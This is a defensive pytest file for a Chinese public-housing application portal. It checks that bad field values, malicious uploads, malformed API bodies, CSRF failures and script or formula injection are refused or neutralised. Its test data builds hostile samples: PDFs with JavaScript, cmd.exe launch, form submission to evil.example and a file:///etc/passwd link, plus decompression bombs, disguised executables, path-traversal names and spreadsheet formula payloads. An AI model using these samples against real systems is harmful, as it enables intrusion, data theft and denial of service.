"""Issue 7 — bad inputs: a 4xx (never 500) with a Chinese message naming the field or file,
and the stored application as it was.

Web wizard note: a failed 下一步 keeps the citizen's typed draft by design (DESIGN.md:
"draft (saved at every step, any time)"); what must never happen there is a move to the
next step, a submission, a field the form does not have, or a list beyond its maxItems.
"""

from __future__ import annotations

import dataclasses
import io
import json
import re
import struct
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from sec_support import MZ, TODAY, create
from sqlalchemy import select

from formflow.applications import drafts as apps
from formflow.db.models import Account, Application, ApplicationFile, StoredFile
from formflow.documents.exports import Sheet, csv_bytes, xlsx_bytes
from support import notice_pdf

JX_PACK, MATTER = "jiangxi", "public-rental-housing"
CJK = re.compile(r"[\u4e00-\u9fff]")


def _draft(sec, username="jx-citizen-wangfang") -> int:
    p = sec.p
    with p.sessions.begin() as s:
        acc = s.scalar(select(Account).where(Account.username == username))
        app = apps.start_draft(s, p.packs, applicant=acc, pack=JX_PACK, matter=MATTER,
                               office_id=apps.selectable_offices(s, JX_PACK)[0].id, channel="jxzwfw")
        return app.id


def _snapshot(sec, app_id):
    with sec.p.sessions() as s:
        a = s.get(Application, app_id)
        files = s.scalars(select(ApplicationFile.id).where(ApplicationFile.application_id == app_id)).all()
        return (a.status, a.version, a.current_step, json.dumps(a.data, sort_keys=True, ensure_ascii=False),
                len(files))


def _version(sec, app_id) -> str:
    with sec.p.sessions() as s:
        return str(s.get(Application, app_id).version)


# --------------------------------------------------------------------------- wizard fields (web)

FIELD_CASES = [
    ("name-too-long", "members", {"members.applicant.basic.name": "张" * 51}, "members-applicant-basic-name",
     "最多 50 个字符"),
    ("id-bad-check-digit", "members", {"members.applicant.basic.id_number": "360102199504100041"},
     "members-applicant-basic-id_number", "校验位不正确"),
    ("id-bad-date", "members", {"members.applicant.basic.id_number": "360102199513400047"},
     "members-applicant-basic-id_number", "出生日期无效"),
    ("mobile-too-short", "members", {"members.applicant.basic.mobile": "1380"},
     "members-applicant-basic-mobile", None),
    ("money-abc", "members", {"members.applicant.employment.monthly_income": "abc"},
     "members-applicant-employment-monthly_income", None),
    ("money-negative", "members", {"members.applicant.employment.monthly_income": "-5"},
     "members-applicant-employment-monthly_income", None),
    ("money-3-decimals", "members", {"members.applicant.employment.monthly_income": "1.234"},
     "members-applicant-employment-monthly_income", None),
    ("area-abc", "members", {"members.applicant.residence.housing_area": "很大"},
     "members-applicant-residence-housing_area", None),
    ("unknown-enum", "members", {"members.applicant.basic.gender": "robot"},
     "members-applicant-basic-gender", "不在可选范围内"),
    ("bad-plate", "assets", {"assets.has_vehicle": "true", "assets.vehicles.__count": "1",
                             "assets.vehicles.0.plate": "ABC"}, "assets-vehicles-0-plate", "车牌号码格式不正确"),
    ("bad-uscc", "assets", {"assets.has_business_registration": "true", "assets.businesses.__count": "1",
                            "assets.businesses.0.uscc": "123"}, "assets-businesses-0-uscc", None),
    ("deposits-negative", "assets", {"assets.deposits_and_securities": "-1"},
     "assets-deposits_and_securities", None),
]


@pytest.mark.parametrize(("step", "fields", "field_id", "text"), [c[1:] for c in FIELD_CASES],
                         ids=[c[0] for c in FIELD_CASES])
def test_bad_field_is_named_in_chinese_and_does_not_move_on(sec, step, fields, field_id, text):
    app_id = _draft(sec)
    started_at = _snapshot(sec, app_id)[2]  # a value beyond its bounds (issue 12) is not stored at all
    c = sec.client("jx-citizen-wangfang")
    url = f"/portal/applications/{app_id}/step/{step}"
    r = c.post(url, {"_action": "next", "_version": _version(sec, app_id), **fields}, token_from=url)
    assert r.status_code == 422
    body = r.get_data(as_text=True)
    error = re.search(rf'id="f-{re.escape(field_id)}-error"[^>]*>(.*?)</', body, re.S)
    assert error, f"no error shown next to {field_id}"
    assert CJK.search(error.group(1)), error.group(1)
    if text:
        assert text in error.group(1)
    with sec.p.sessions() as s:
        a = s.get(Application, app_id)
        assert a.status == "draft" and a.current_step in (None, step, started_at)


def test_lower_case_x_in_id_number_is_accepted(sec):
    app_id = _draft(sec)
    c = sec.client("jx-citizen-wangfang")
    url = f"/portal/applications/{app_id}/step/members"
    r = c.post(url, {"_action": "next", "_version": _version(sec, app_id),
                     "members.applicant.basic.id_number": "36010219950410004x"}, token_from=url)
    assert r.status_code == 422  # other fields are still missing…
    assert 'id="f-members-applicant-basic-id_number-error"' not in r.get_data(as_text=True)  # …not this one


def test_unknown_field_injected_is_not_stored(sec):
    app_id = _draft(sec)
    c = sec.client("jx-citizen-wangfang")
    url = f"/portal/applications/{app_id}/step/members"
    r = c.post(url, {"_action": "save", "_version": _version(sec, app_id), "members.is_admin": "true",
                     "members.applicant.basic.evil": "x", "members.applicant.basic.name": "王芳"}, token_from=url)
    assert r.status_code == 302
    with sec.p.sessions() as s:
        members = s.get(Application, app_id).data["members"]
    assert "is_admin" not in members and "evil" not in members["applicant"]["basic"]
    assert members["applicant"]["basic"]["name"] == "王芳"


def test_list_count_beyond_max_items_is_capped(sec):
    app_id = _draft(sec)
    c = sec.client("jx-citizen-wangfang")
    url = f"/portal/applications/{app_id}/step/members"
    r = c.post(url, {"_action": "save", "_version": _version(sec, app_id),
                     "members.co_applicants.__count": "5000"}, token_from=url)
    assert r.status_code == 302
    with sec.p.sessions() as s:
        assert len(s.get(Application, app_id).data["members"]["co_applicants"]) <= 10


def test_submit_of_an_incomplete_draft_is_refused_and_nothing_changes(sec):
    app_id = _draft(sec)
    before = _snapshot(sec, app_id)
    c = sec.client("jx-citizen-wangfang")
    r = c.post(f"/portal/applications/{app_id}/submit", {"_version": _version(sec, app_id)},
               token_from=f"/portal/applications/{app_id}/confirm")
    assert 300 <= r.status_code < 500
    assert _snapshot(sec, app_id) == before


# --------------------------------------------------------------------------- uploads (web)

def _png(size=(20, 20)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, format="PNG")
    return out.getvalue()


def _jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 64), "red").save(out, format="JPEG")
    return out.getvalue()


def _pdf_with(change) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _js(writer):
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert(1)")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _launch(writer):
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                               NameObject("/F"): TextStringObject("cmd.exe")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _pixel_bomb() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    header = struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) \
        + chunk(b"IEND", b"")


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("a.txt", "hello")
    return out.getvalue()


def _action(kind: str, **entries):
    def change(writer):
        action = DictionaryObject({NameObject("/S"): NameObject(kind), **{
            NameObject("/" + k): (TextStringObject(v) if isinstance(v, str) else v) for k, v in entries.items()}})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return change


def _catalog_entry(key: str, value):
    def change(writer):
        target = writer._root_object
        if key == "/EmbeddedFiles":
            target[NameObject("/Names")] = DictionaryObject({NameObject(key): DictionaryObject()})
        elif key == "/XFA":
            target[NameObject("/AcroForm")] = DictionaryObject({NameObject(key): TextStringObject(value)})
        else:
            writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject({
                NameObject("/Subtype"): NameObject(key), NameObject("/Rect"): ArrayObject()}))])
    return change


def _link_pdf() -> bytes:
    """A PDF with an ordinary clickable web link (not automatic): accepted."""
    def change(writer):
        link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): DictionaryObject({
            NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://www.gov.cn/")})})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _pdf_with(change)


def _object_stream_bomb() -> bytes:
    """78 KB: an object stream that inflates to 80 MB (pypdf refuses it past its limit)."""
    inner = b"5 0 " + b" " * (80 * 1024 * 1024)
    packed = zlib.compress(inner, 9)
    parts = [b"%PDF-1.5\n"]
    offsets = {}
    bodies = {1: b"<</Type/Catalog/Pages 2 0 R/Extra 5 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
              3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"}
    for number, body in bodies.items():
        offsets[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    offsets[4] = sum(map(len, parts))
    parts.append(b"4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
                 + packed + b"\nendstream\nendobj\n")
    offsets[6] = sum(map(len, parts))
    rows = [struct.pack(">BIH", 0, 0, 65535)] + [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
    table = b"".join(rows)
    parts.append(b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table) + table
                 + b"\nendstream\nendobj\n")
    parts.append(b"startxref\n%d\n%%%%EOF\n" % offsets[6])
    return b"".join(parts)


UPLOAD_CASES = [
    ("empty", b"", "empty.pdf"),
    ("elf-renamed-pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200, "setup.pdf"),
    ("exe-renamed-pdf", b"MZ\x90\x00\x03" + b"\x00" * 300, "说明.pdf"),
    ("zip-renamed-png", _zip(), "photo.png"),
    ("pdf-javascript", _pdf_with(_js), "js.pdf"),
    ("pdf-launch", _pdf_with(_launch), "launch.pdf"),
    ("pixel-bomb-png", _pixel_bomb(), "bomb.png"),
    ("truncated-jpeg", _jpeg()[:200], "cut.jpg"),
    ("svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "pic.svg"),
    ("html-renamed-png", b"<html><script>alert(1)</script></html>", "page.png"),
    # issue 12: data hidden after the image, and PDFs that act, submit, embed or reach out
    ("png-with-zip-appended", _png() + _zip(), "户口簿.png"),
    ("jpeg-with-zip-appended", _jpeg() + _zip(), "身份证.jpg"),
    ("pdf-uri-open-action", _pdf_with(_action("/URI", URI="https://evil.example/")), "uri.pdf"),
    ("pdf-submit-form", _pdf_with(_action("/SubmitForm", F="https://evil.example/collect")), "submit.pdf"),
    ("pdf-gotor-file", _pdf_with(_action("/GoToR", F="file:///etc/passwd", D=ArrayObject())), "gotor.pdf"),
    ("pdf-xfa", _pdf_with(_catalog_entry("/XFA", "<xdp:xdp/>")), "xfa.pdf"),
    ("pdf-embedded-files", _pdf_with(_catalog_entry("/EmbeddedFiles", None)), "embedded.pdf"),
    ("pdf-rich-media", _pdf_with(_catalog_entry("/RichMedia", None)), "flash.pdf"),
    ("pdf-html-after-eof", _pdf_with(lambda w: None) + b"<html><script>alert(1)</script></html>", "tail.pdf"),
    ("pdf-object-stream-bomb", _object_stream_bomb(), "bomb.pdf"),
]


def _upload(sec, app_id, data: bytes, name: str, c=None):
    c = c or sec.client("jx-citizen-wangfang")
    url = f"/portal/applications/{app_id}/step/materials"
    token = c.csrf(url)
    return c.client.post(url, data={"_action": "upload", "_version": _version(sec, app_id), "csrf_token": token,
                                    "file:materials.uploads.income_certificate": (io.BytesIO(data), name)},
                         content_type="multipart/form-data")


@pytest.mark.parametrize(("data", "name"), [c[1:] for c in UPLOAD_CASES], ids=[c[0] for c in UPLOAD_CASES])
def test_refused_upload_names_the_file_and_stores_nothing(sec, data, name):
    app_id = _draft(sec)
    before = _snapshot(sec, app_id)
    with sec.p.sessions() as s:
        stored_before = len(s.scalars(select(StoredFile.sha256)).all())
    r = _upload(sec, app_id, data, name)
    assert r.status_code == 400, r.status_code
    body = r.get_data(as_text=True)
    assert f"“{name}”" in body and CJK.search(body)
    assert _snapshot(sec, app_id) == before
    with sec.p.sessions() as s:
        assert len(s.scalars(select(StoredFile.sha256)).all()) == stored_before


@pytest.mark.parametrize(("data", "name"), [(_png(), "scan.png"), (_jpeg(), "scan.jpg"), (_link_pdf(), "link.pdf"),
                                            (_pdf_with(lambda w: None) + b"\r\n", "crlf.pdf")],
                         ids=["png", "jpeg", "pdf-with-a-plain-link", "pdf-trailing-newline"])
def test_sound_upload_is_accepted(sec, data, name):
    """Positive control of the refusals above: ordinary scans and a PDF with a clickable link are stored."""
    app_id = _draft(sec)
    r = _upload(sec, app_id, data, name)
    assert r.status_code == 302, r.get_data(as_text=True)[-400:]
    with sec.p.sessions() as s:
        assert s.get(Application, app_id).data["materials"]["uploads"]["income_certificate"][0]["name"] == name


def test_oversized_upload_is_refused_with_the_limit(sec):
    app_id = _draft(sec)
    ext = sec.app.extensions["formflow"]
    ext["settings"] = dataclasses.replace(ext["settings"], upload_limit_bytes=2000)
    sec.app.extensions["formflow.services"].settings = ext["settings"]  # uploads read the services' settings
    before = _snapshot(sec, app_id)
    r = _upload(sec, app_id, _png((200, 200)) + b"\x00" * 5000, "big.png")
    assert r.status_code == 400
    assert "“big.png”" in r.get_data(as_text=True)
    assert _snapshot(sec, app_id) == before


def test_oversized_request_body_is_413_with_a_chinese_page(sec):
    app_id = _draft(sec)
    c = sec.client("jx-citizen-wangfang")
    url = f"/portal/applications/{app_id}/step/materials"
    token = c.csrf(url)
    sec.app.config["MAX_CONTENT_LENGTH"] = 50_000
    before = _snapshot(sec, app_id)
    r = c.client.post(url, data={"_action": "upload", "_version": _version(sec, app_id), "csrf_token": token,
                                 "file:materials.uploads.income_certificate": (io.BytesIO(b"\0" * 80_000), "a.png")},
                      content_type="multipart/form-data")
    assert r.status_code == 413
    body = r.get_data(as_text=True)
    assert "内容过大" in body and 'lang="zh-CN"' in body
    assert _snapshot(sec, app_id) == before


@pytest.mark.parametrize("name", ["../../etc/pass\x00wd.png", "..\\..\\boot.png", "x" * 600 + ".png"],
                         ids=["dotdot-nul", "backslashes", "very-long"])
def test_dangerous_file_names_are_made_harmless(sec, name):
    from formflow.files.uploads import DISPLAY_NAME_LIMIT

    app_id = _draft(sec)
    r = _upload(sec, app_id, _png(), name)
    assert r.status_code == 302, r.get_data(as_text=True)[-400:]
    with sec.p.sessions() as s:
        ref = s.get(Application, app_id).data["materials"]["uploads"]["income_certificate"][0]
    shown = ref["name"]
    assert "/" not in shown and "\\" not in shown and "\x00" not in shown and ".." not in shown.replace("…", "")
    assert len(shown) <= DISPLAY_NAME_LIMIT + 8
    stored = [p for p in sec.p.storage.root.rglob("*") if p.is_file()] if hasattr(sec.p.storage, "root") else []
    for path in stored:  # the blob is named by its hash, never by the file name
        assert "passwd" not in path.name and "boot" not in path.name


# --------------------------------------------------------------------------- API bodies

def _api(sec, username="jx-citizen-wangfang"):
    from api_support import Client

    c = Client(sec.app)
    c.sign_in(username)
    return c


def _nested(depth: int):
    value: object = "x"
    for _ in range(depth):
        value = {"a": value}
    return value


API_CASES = [
    ("deeply-nested", "PUT", "/data", lambda v: json.dumps({"version": v, "data": {"members": _nested(500)}}),
     "application/json", (400, 413, 422)),
    ("huge-array", "PUT", "/data", lambda v: json.dumps({"version": v, "data": {"members": {
        "co_applicants": [{}] * 200_000}}}), "application/json", (400, 413, 422)),
    ("malformed-json", "PUT", "/data", lambda v: '{"version": ' + str(v) + ', "data": {', "application/json",
     (400,)),
    ("nan", "PUT", "/data", lambda v: '{"version": ' + str(v) + ', "data": {"assets": '
     '{"deposits_and_securities": NaN}}}', "application/json", (400, 422)),
    ("wrong-content-type", "PUT", "/data", lambda v: json.dumps({"version": v, "data": {}}), "text/plain", (415,)),
    ("wrong-type-money", "PATCH", "/steps/assets", lambda v: json.dumps(
        {"version": v, "data": {"deposits_and_securities": "abc"}}), "application/json", (422,)),
    ("unknown-step", "PUT", "/data", lambda v: json.dumps({"version": v, "data": {"evil": {}}}),
     "application/json", (422,)),
    ("missing-version", "PATCH", "/steps/assets", lambda v: json.dumps({"data": {}}), "application/json", (422,)),
    ("non-integer-version", "PATCH", "/steps/assets", lambda v: json.dumps({"version": "7a", "data": {}}),
     "application/json", (422,)),
    ("stale-version", "PATCH", "/steps/assets", lambda v: json.dumps({"version": v + 100, "data": {}}),
     "application/json", (409,)),
    ("unknown-top-field", "PATCH", "/steps/assets", lambda v: json.dumps({"version": v, "data": {}, "role": "x"}),
     "application/json", (422,)),
]


@pytest.mark.parametrize(("method", "suffix", "body", "ctype", "statuses"), [c[1:] for c in API_CASES],
                         ids=[c[0] for c in API_CASES])
def test_bad_api_body_is_4xx_in_chinese_and_changes_nothing(sec, method, suffix, body, ctype, statuses):
    app_id = _draft(sec)
    before = _snapshot(sec, app_id)
    c = _api(sec)
    r = c.send(method, f"/applications/{app_id}{suffix}", data=body(before[1]), content_type=ctype)
    assert r.status_code in statuses, (r.status_code, r.get_data(as_text=True)[:300])
    assert CJK.search(r.json["error"]["message"])
    assert _snapshot(sec, app_id) == before


def test_invalid_queue_cursor_is_400_in_the_api(sec):
    r = _api(sec, "mj-community").get("/review/queue?cursor=%%%garbage")
    assert r.status_code in (400, 422) and CJK.search(r.json["error"]["message"])


def test_invalid_queue_cursor_on_the_desk_is_not_a_500(sec):
    r = sec.client("mj-community").get("/desk/?cursor=!!notacursor&sort=nonsense")
    assert r.status_code in (200, 400)


# --------------------------------------------------------------------------- desk POSTs and CSRF

DESK_CASES = [
    ("unknown-stage", {"stage": "nope", "action": "accept", "expected_version": "{v}"}),
    ("unknown-action", {"stage": "{stage}", "action": "nope", "expected_version": "{v}"}),
    ("missing-expected-version", {"stage": "{stage}", "action": "{action}"}),
    ("non-integer-version", {"stage": "{stage}", "action": "{action}", "expected_version": "1.5e3"}),
]


@pytest.mark.parametrize("form", [c[1] for c in DESK_CASES], ids=[c[0] for c in DESK_CASES])
def test_bad_desk_action_is_400_in_chinese_and_changes_nothing(sec, form):
    from formflow.packs.versions import load_pinned

    app_id = create(sec.p, MZ, today=TODAY)
    with sec.p.sessions() as s:
        a = s.get(Application, app_id)
        stage, v = a.stages[0], a.version
        action = next(iter(load_pinned(s, a.versions).workflow["stages"][stage]["actions"]))
        before = (a.status, a.version, list(a.stages))
    data = {k: val.format(v=v, stage=stage, action=action) for k, val in form.items()}
    c = sec.client("mj-community")
    r = c.post(f"/desk/applications/{app_id}/act", data, token_from=f"/desk/applications/{app_id}")
    assert r.status_code == 400
    body = r.get_data(as_text=True)
    assert 'lang="zh-CN"' in body and CJK.search(body)
    with sec.p.sessions() as s:
        a = s.get(Application, app_id)
        assert (a.status, a.version, list(a.stages)) == before


@pytest.mark.parametrize("token", [None, "wrong-token"], ids=["csrf-missing", "csrf-wrong"])
def test_csrf_missing_or_wrong_is_refused_in_chinese(sec, token):
    app_id = _draft(sec)
    before = _snapshot(sec, app_id)
    c = sec.client("jx-citizen-wangfang")
    data = {"_action": "save", "_version": _version(sec, app_id), "members.applicant.basic.name": "篡改"}
    if token:
        data["csrf_token"] = token
    r = c.client.post(f"/portal/applications/{app_id}/step/members", data=data)
    assert r.status_code == 400
    assert "刷新页面" in r.get_data(as_text=True)
    assert _snapshot(sec, app_id) == before


# --------------------------------------------------------------------------- escaping and exports

SCRIPT = "<script>alert(1)</script>"


def test_script_in_a_name_is_escaped_in_portal_and_desk(sec):
    from desk_support import sample_data

    data = sample_data()
    data["members"]["applicant"]["name"] = SCRIPT
    app_id = create(sec.p, MZ, today=TODAY, data=data)
    for who, url in (("mj-citizen-chen", f"/portal/applications/{app_id}"),
                     ("mj-community", f"/desk/applications/{app_id}")):
        body = sec.client(who).get(url).get_data(as_text=True)
        assert SCRIPT not in body, url


def test_script_in_a_name_and_note_is_plain_text_in_the_notice_pdf(sec):
    """The rejection notice carries the name and the reason: as literal text, never as markup."""
    from desk_support import sample_data, version_on

    from formflow.db.models import Notice
    from formflow.documents.pdf import pdf_text

    data = sample_data()
    data["members"]["applicant"]["name"] = SCRIPT
    app_id = create(sec.p, MZ, today=TODAY, data=data)
    c = sec.client("mj-community")
    stage = "community_acceptance"
    page = c.get(f"/desk/applications/{app_id}").get_data(as_text=True)
    note = "材料不符<b>粗体</b>" + SCRIPT
    r = c.post(f"/desk/applications/{app_id}/act",
               {"stage": stage, "action": "reject", "note": note, "confirmed": "1",
                "expected_version": str(version_on(page, stage, "reject"))},
               token_from=f"/desk/applications/{app_id}")
    assert r.status_code == 302, r.get_data(as_text=True)[-500:]
    with sec.p.sessions() as s:
        notice = s.scalar(select(Notice).where(Notice.application_id == app_id))
    text = pdf_text(notice_pdf(sec.p, notice.id)).replace("\n", "")
    assert "<b>粗体</b>" in text and "alert(1)" in text


FORMULAS = ["=HYPERLINK(\"http://evil\",\"x\")", "+1", "-1", "@SUM(A1:A2)", "=1+1", "\t=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_neutralised_in_csv_and_excel(value):
    import csv

    from openpyxl import load_workbook

    rows = list(csv.reader(io.StringIO(csv_bytes(["姓名"], [[value], [42]]).decode("utf-8-sig"))))
    assert rows[1] == ["'" + value] and rows[2] == ["42"]
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("名单", ["姓名"], [[value], [42]])])))
    ws = book["名单"]
    assert ws.cell(row=2, column=1).value == "'" + value
    assert ws.cell(row=2, column=1).data_type == "s"
    assert ws.cell(row=3, column=1).value == 42
